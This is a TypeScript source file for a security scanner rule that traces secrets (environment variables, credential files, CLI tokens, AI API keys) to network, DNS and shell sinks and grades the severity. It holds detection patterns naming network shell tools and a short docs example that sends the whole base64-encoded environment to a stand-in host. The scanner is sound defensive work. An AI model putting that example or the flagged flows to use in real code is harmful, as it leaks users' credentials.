import type { Node } from '@babel/types';
import { defineRule, type CallInfo, type FileContext, type BodyHints, HOLE, areAlternatives, describePath, type Hop, type Taint, DNS_CALLS, NETWORK_CALLS, STREAM_WRITE, destinationOf, normalizeChain, programOf } from '../src/engine/api.js';
import { RECON_ENDPOINTS, EXFIL_ENDPOINTS, RAW_IP_URL, isPublicIPv4, matchIndicator } from '../src/engine/indicators.js';
import { isProviderHost, providerName, providerOfHost } from '../src/engine/ai-indicators.js';
import type { Severity, Signal } from '../src/types.js';
import { calleePattern } from '../src/catalog/callees.js';

/** What makes a function body worth parsing for this rule (RuleVisitors.bodyHints): Network tools a helper may build a command for. */
const BODY_HINTS: BodyHints = { literals: /\b(?:ncat|netcat|nslookup|Invoke-WebRequest)\b|\bnc\s|\bdig\s|\bping\s|\biwr\s|\birm\s/ };

/** child_process calls given a command line (fork is given a module). */
const EXEC = calleePattern((c) => c.callee.startsWith('child_process.') && c.command);
/** Programs that send what they are given over the network: HTTP clients, raw sockets, DNS lookups. */
const HTTP_TOOL = /^(?:curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm)$/;
const RAW_TOOL = /^(?:nc|ncat|netcat|socat|telnet|nslookup|dig|host|ping)$/;
/** `sh -c "…"`, `cmd /c …`, `powershell -Command …`: the command the shell is handed. */
const SHELL_PREFIX = /^(?:(?:\S*\/)?(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)\s+(?:(?:-\w+|\/[cCkK])\s+)*/i;

/**
 * The network program a command line runs, if any: the program of each piped or chained part of it
 * (after a shell wrapper), not any word of it. A tool that passes its own argv or a `--host` flag
 * to git or docker sends nothing anywhere by itself.
 */
export function networkProgram(command: string): { program: string; raw: boolean } | undefined {
  for (const part of command.split(/\|\||&&|[|;&\n`]|\$\(/)) {
    const inner = part.trim().replace(SHELL_PREFIX, '').replace(/^["']+/, '');
    const program = programOf(inner);
    if (!program) continue;
    if (HTTP_TOOL.test(program)) return { program, raw: false };
    if (RAW_TOOL.test(program)) return { program, raw: true };
  }
  return undefined;
}

interface Sink {
  kind: 'network' | 'dns' | 'shell-network';
  args: Node[];
  destination?: string;
  /** Shell sinks: a raw socket or DNS tool (nc, dig…), which no API client sends a token with. */
  raw?: boolean;
}

function dataArgs(call: CallInfo): Node[] {
  return call.node.arguments.filter((a): a is Exclude<typeof a, { type: 'ArgumentPlaceholder' }> => a.type !== 'ArgumentPlaceholder' && a.type !== 'FunctionExpression' && a.type !== 'ArrowFunctionExpression') as Node[];
}

function sinkOf(call: CallInfo, ctx: FileContext): Sink | undefined {
  if (!call.callee) return undefined;
  const callee = normalizeChain(call.callee);
  const dest = () => destinationOf(call.node.arguments as Node[], ctx.evaluator);
  if (NETWORK_CALLS.test(callee)) return { kind: 'network', args: dataArgs(call), destination: dest() };
  if (STREAM_WRITE.test(callee)) return { kind: 'network', args: dataArgs(call) };
  if (DNS_CALLS.test(callee)) return { kind: 'dns', args: dataArgs(call).slice(0, 1), destination: dest() };
  if (EXEC.test(callee)) {
    const args = dataArgs(call).filter((a) => a.type !== 'ObjectExpression');
    const text = args.map((a) => (a.type === 'ArrayExpression' ? a.elements.map((e) => (e && e.type !== 'SpreadElement' ? ctx.evaluator.foldLoose(e) ?? HOLE : HOLE)).join(' ') : ctx.evaluator.foldLoose(a) ?? HOLE)).join(' ');
    // A command line without a network tool is not a sink: tools pass env and paths to programs.
    const tool = networkProgram(text);
    if (!tool) return undefined;
    const url = /\bhttps?:\/\/[^\s'"]+/i.exec(text)?.[0];
    return { kind: 'shell-network', args, destination: url, raw: tool.raw };
  }
  return undefined;
}

function isDrop(sink: Sink): boolean {
  // Data in a DNS name or down a raw socket is sent to be collected; an HTTP tool is judged by its URL.
  if (sink.kind === 'dns' || (sink.kind === 'shell-network' && sink.raw)) return true;
  const dest = sink.destination;
  if (!dest) return false;
  if (matchIndicator(EXFIL_ENDPOINTS, dest) || matchIndicator(RECON_ENDPOINTS, dest)) return true;
  const ip = RAW_IP_URL.exec(dest);
  return !!ip && isPublicIPv4(ip[1]!);
}

/** Is the destination a host we can name that is not a known drop? (an API client's own host) */
function namedHost(dest: string | undefined): string | undefined {
  if (!dest) return undefined;
  if (matchIndicator(EXFIL_ENDPOINTS, dest)) return undefined;
  const ip = RAW_IP_URL.exec(dest);
  if (ip && isPublicIPv4(ip[1]!)) return undefined;
  const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?([a-z0-9.-]+\.[a-z]{2,})(?:[:/]|$)/i.exec(dest);
  return m && !m[1]!.includes(HOLE) ? m[1] : undefined;
}

const SINK_TEXT: Record<Sink['kind'], string> = {
  network: 'the network',
  dns: 'a DNS query',
  'shell-network': 'a shell network command',
};

export default defineRule({
  meta: {
    id: 'exfiltration-flow',
    title: 'Sensitive data flows to the network',
    description:
      "Follows data from sensitive sources (the whole environment, secret-named variables, credential files, output of commands such as `gh auth token`, host identity) through variables, object writes, transforms (JSON, Buffer, base64, string building), function calls and returns, callbacks and module boundaries, to network sinks (http/https/net/tls, fetch, axios and other clients, request streams, DNS queries, shell commands that use curl/wget/nslookup). Each finding carries the path from source to sink. A secret-named variable sent to a named host is reported low: that is what API clients do. AI provider keys (see `ai-keys`) are judged by destination: to their own provider's API host or an AI gateway they are low; to any other host, to a drop, bundled with other secrets or other providers' keys (alternatives picked at run time, `a ?? b`, do not count), or from install-time code they are critical (`flow:ai-key`).",
    severity: 'critical',
    category: 'network',
    references: ['https://attack.mitre.org/techniques/T1041/', 'https://attack.mitre.org/techniques/T1552/001/'],
    docs: {
      example: "const data = JSON.stringify(process.env);\nconst req = https.request({ host: 'collector.invalid', method: 'POST' });\nreq.end(Buffer.from(data).toString('base64'));",
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule exfiltration-flow`; its findings then neither show nor count toward the score.',
    },
  },
  create() {
    return {
      bodyHints: BODY_HINTS,
      call(call, ctx) {
        const sink = sinkOf(call, ctx);
        if (!sink || sink.args.length === 0) return;
        const seen = new Set<string>();
        const sinkHop: Hop = { file: ctx.path, line: call.node.loc?.start.line ?? 0, note: `${call.callee}(…)` };
        // Every source reaching this sink first: an AI key travelling with other secrets is a bundle.
        const all: Taint[] = [];
        for (const arg of sink.args) {
          for (const t of ctx.flows.taintOf(arg)) {
            const key = `${t.kind}\0${t.label}`;
            if (seen.has(key)) continue;
            seen.add(key);
            all.push(t);
          }
        }
        for (const t of all) report(ctx, call, sink, t, sinkHop, all);
      },
    };
  },
});

/** The host part of a destination, unknown parts kept as HOLE (`…-aiplatform.googleapis.com`). */
function hostPart(dest: string | undefined): string | undefined {
  if (!dest) return undefined;
  const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?([^/:?#\s]+)/i.exec(dest);
  return m?.[1];
}

/**
 * An AI provider key: sent to its own provider's API (or an AI gateway) it is what the SDK does;
 * anywhere else, with other secrets, to a drop, or from install-time code it is theft.
 */
/**
 * A path that crosses function boundaries (arguments, returns, callbacks, imports). Flows are not
 * field-sensitive there: `resolveModel(input)` carries every field of `input`, key included.
 */
function direct(t: Taint): boolean {
  return !t.hops.some((h) => /^(?:passed to |returned by |callback parameter |imported from )/.test(h.note));
}

function judgeAiKey(t: Taint, sink: Sink, all: Taint[], host: string | undefined, drop: boolean, install: boolean): { severity: Severity; signals: Signal[]; note: string } {
  const provider = t.provider ?? 'several';
  const h = sink.kind === 'network' ? hostPart(sink.destination) : undefined;
  const belongs = (p: string | undefined) => !!p && p !== 'several' && !drop && h !== undefined && isProviderHost(p, h, HOLE);
  const own = belongs(provider);
  // Other secrets on the same request, by a direct path: a gateway's own key (Helicone-Auth…) rides
  // along; anything else is a bundle.
  // A fallback picked instead of the key (`HF_TOKEN ?? HF_ACCESS_TOKEN`) does not travel with it.
  const others = all.filter((o) => o !== t && o.kind !== 'fingerprint' && o.kind !== 'ai-key' && direct(o) && !areAlternatives(o, t) && !(o.kind === 'env-secret' && /HELICONE|PORTKEY|AI_?GATEWAY|CF_AIG/i.test(o.label)));
  // Other providers' keys: picked instead of this one (`anthropicKey ?? openrouterKey`), or carried with it.
  const keys = all.filter((o) => o !== t && o.kind === 'ai-key' && o.provider !== provider);
  const together = keys.filter((o) => !areAlternatives(o, t) && direct(o) && direct(t));
  const theft = (note: string) => ({ severity: 'critical' as Severity, signals: ['flow:ai-key'] as Signal[], note });
  if (drop) return theft(': an AI API key sent to a data drop');
  if (provider === 'several') return theft(": a loop over several AI providers' keys (a harvest)");
  if (others.length || together.length) return theft(`: an AI API key bundled with ${[...others, ...together].map((o) => o.label).slice(0, 3).join(', ')}`);
  if (own) return { severity: 'low', signals: [], note: `: a key sent to ${providerName(provider)}'s own API host is what its SDK does` };
  // A provider switch: the destination belongs to one of the alternatives, or the key reaches
  // another AI provider's API only through calls (multi-provider clients share request helpers).
  const switched = keys.find((o) => belongs(o.provider));
  if (switched) return { severity: 'low', signals: [], note: `: one of several providers' keys picked at run time; this call is ${providerName(switched.provider!)}'s` };
  const other = h && !drop ? providerOfHost(h, HOLE) : undefined;
  if (other && !direct(t)) return { severity: 'medium', signals: [], note: `: reaches ${providerName(other)}'s API only through function calls (a multi-provider client?)` };
  if (host) return theft(`: ${providerName(provider)}'s key sent to a host that is not ${providerName(provider)}'s`);
  if (install) return theft(': an AI API key sent out by install-time code');
  return { severity: 'medium', signals: [], note: ' (destination not known statically)' };
}

function report(ctx: FileContext, call: CallInfo, sink: Sink, t: Taint, sinkHop: Hop, all: Taint[]): void {
  const host = sink.kind !== 'dns' ? namedHost(sink.destination) : undefined;
  // A destination built to receive data (webhook, bin, tunnel, raw IP, DNS built at run time).
  const drop = isDrop(sink);
  const install = ctx.reach === 'install';
  let severity: Severity;
  let signals: Signal[];
  let aiNote = '';
  switch (t.kind) {
    case 'ai-key':
      ({ severity, signals, note: aiNote } = judgeAiKey(t, sink, all, host, drop, install));
      break;
    case 'env-bulk':
    case 'credential-file':
    case 'command-output':
      // Whole environments, credential files and CLI tokens have no business leaving, to any host.
      severity = 'critical';
      signals = ['flow:secret'];
      break;
    case 'env-secret':
    case 'browser-store':
      // One token or cookie sent somewhere is what API clients and web apps do; to a drop, or from
      // install-time code, it is theft.
      severity = drop ? 'critical' : install ? 'high' : host ? 'low' : 'medium';
      signals = drop ? ['flow:secret'] : install ? ['flow:token'] : [];
      break;
    case 'fingerprint':
      // Host identity in install-time traffic is a beacon; at run time it is usually telemetry.
      severity = install || drop ? 'high' : 'low';
      signals = install || drop ? ['flow:fingerprint'] : [];
      break;
    case 'remote-content':
      // Only the dynamic-code rule asks for responses; a proxy passing one on is not a leak.
      return;
  }
  const dest = sink.destination && sink.destination.split(HOLE).join('').trim() ? sink.destination : undefined;
  const to = host ? `${SINK_TEXT[sink.kind]} (${host})` : dest ? `${SINK_TEXT[sink.kind]} (${dest.split(HOLE).join('…').slice(0, 80)})` : SINK_TEXT[sink.kind];
  const note = t.kind === 'ai-key' ? aiNote : t.kind === 'env-secret' && host ? ': a token sent to its own API host is what SDKs do' : '';
  ctx.report({
    node: call.node,
    message: `${t.label} flows to ${to}${note}: ${describePath(t, sinkHop)}`,
    severity,
    signals,
  });
}
